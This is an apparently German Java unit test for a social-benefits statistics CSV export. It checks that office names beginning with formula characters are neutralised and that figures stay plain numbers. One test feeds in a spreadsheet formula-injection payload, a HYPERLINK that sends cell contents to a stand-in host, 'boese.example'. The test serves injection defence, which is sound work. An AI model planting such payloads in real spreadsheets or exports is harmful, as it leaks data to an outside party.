package de.fallbuch.query.kennzahlen;

import static org.assertj.core.api.Assertions.assertThat;

import de.fallbuch.kernel.common.Leistungsart;
import de.fallbuch.kernel.kennzahlen.Altersgruppe;
import de.fallbuch.kernel.kennzahlen.Kennzahlen;
import de.fallbuch.kernel.kennzahlen.KennzahlenAbfragen;
import de.fallbuch.query.kennzahlen.KennzahlenAbfrageHandler.Antrag;
import de.fallbuch.query.kennzahlen.KennzahlenAbfrageHandler.Entscheidung;
import de.fallbuch.query.kennzahlen.KennzahlenAbfrageHandler.Fakten;
import java.io.StringReader;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** The CSV export read back as a spreadsheet would: no cell is a formula, figures are numbers. */
class KennzahlenCsvTest {

    private static final LocalDate TAG = LocalDate.of(2031, 3, 10);
    private static final Pattern ZAHL_INTERNATIONAL = Pattern.compile("-?\\d+(\\.\\d+)?");
    private static final Pattern ZAHL_DEUTSCH = Pattern.compile("-?\\d+(,\\d+)?");

    @Test
    void dienststellennamenAlsFormelWerdenZuText() throws Exception {
        List<String> namen = List.of("=HYPERLINK(\"https://boese.example/?d=\"&A1;\"Klick\")", "@SUMME(1+1)", "+49 Nord", "-Sued",
                "\tTab", "Gewöhnlich");
        Kennzahlen k = kennzahlen(namen);

        for (KennzahlenCsv.Format format : KennzahlenCsv.Format.values()) {
            String text = KennzahlenCsv.csv(k, format);
            char trenner = format == KennzahlenCsv.Format.DEUTSCH ? ';' : ',';
            Pattern zahl = format == KennzahlenCsv.Format.DEUTSCH ? ZAHL_DEUTSCH : ZAHL_INTERNATIONAL;
            List<CSVRecord> saetze = CSVFormat.RFC4180.builder().setDelimiter(trenner).get()
                    .parse(new StringReader(text.replace("\uFEFF", ""))).getRecords();
            assertThat(saetze).hasSizeGreaterThan(100);
            List<String> dienststellen = new ArrayList<>();
            for (CSVRecord satz : saetze) {
                assertThat(satz.size()).isEqualTo(KennzahlenCsv.SPALTEN.size());
                dienststellen.add(satz.get(3));
                for (String zelle : satz) {
                    if (!zelle.isEmpty() && "=+-@\t\r".indexOf(zelle.charAt(0)) >= 0) {
                        assertThat(zelle).as("%s in %s", zelle, satz).matches(zahl);
                    }
                }
            }
            assertThat(dienststellen).contains("'=HYPERLINK(\"https://boese.example/?d=\"&A1;\"Klick\")", "'@SUMME(1+1)", "'+49 Nord",
                    "'-Sued", "'\tTab", "Gewöhnlich", "Gesamt");
            // the neutralised cells are quoted in the file itself
            assertThat(text).contains("\"'@SUMME(1+1)\"", "\"'=HYPERLINK(\"\"https://boese.example/?d=\"\"&A1;\"\"Klick\"\")\"");
        }
    }

    @Test
    void zahlenBleibenZahlenUndStehenOhneAnfuehrungszeichen() {
        Kennzahlen k = kennzahlen(List.of("Innenstadt"));
        String international = KennzahlenCsv.csv(k, KennzahlenCsv.Format.INTERNATIONAL);
        String deutsch = KennzahlenCsv.csv(k, KennzahlenCsv.Format.DEUTSCH);
        assertThat(international).startsWith("\"stichtag\",\"von\",\"bis\",\"dienststelle\",\"kennzahl\",\"leistungsart\",\"bezug\",\"wert\"\r\n")
                .contains("\"Innenstadt\",\"empfaenger\",\"HILFE_ZUM_LEBENSUNTERHALT\",,3\r\n")
                .contains("\"Innenstadt\",\"anteil_empfaenger_prozent\",\"HILFE_ZUM_LEBENSUNTERHALT\",,100.00\r\n")
                .contains("\"Innenstadt\",\"betrag_monatlich_cent\",,,90000\r\n");
        assertThat(deutsch).startsWith("\uFEFF\"stichtag\";")
                .contains("\"Innenstadt\";\"anteil_empfaenger_prozent\";\"HILFE_ZUM_LEBENSUNTERHALT\";;100,00\r\n");
    }

    /** Three recipients of HLU in each Dienststelle, so that nothing is suppressed. */
    private static Kennzahlen kennzahlen(List<String> dienststellen) {
        List<Antrag> antraege = new ArrayList<>();
        List<Entscheidung> entscheidungen = new ArrayList<>();
        for (String ds : dienststellen) {
            for (int i = 0; i < 3; i++) {
                Antrag antrag = new Antrag(UUID.randomUUID(), UUID.randomUUID(), ds, Leistungsart.HILFE_ZUM_LEBENSUNTERHALT,
                        Altersgruppe.AB_65, TAG.minusDays(5), TAG, "BEWILLIGUNG", null);
                antraege.add(antrag);
                entscheidungen.add(new Entscheidung(UUID.randomUUID(), antrag, "BEWILLIGUNG", TAG, 30_000L, TAG, TAG.plusMonths(6), null,
                        null, null, null));
            }
        }
        Fakten fakten = new Fakten(antraege, entscheidungen, List.of(), List.of(), List.of(), Map.of());
        return Unterdrueckung.anwenden(KennzahlenAbfrageHandler.rechnen(fakten, new KennzahlenAbfragen(TAG, TAG, TAG, Set.of()), 3), 3);
    }
}
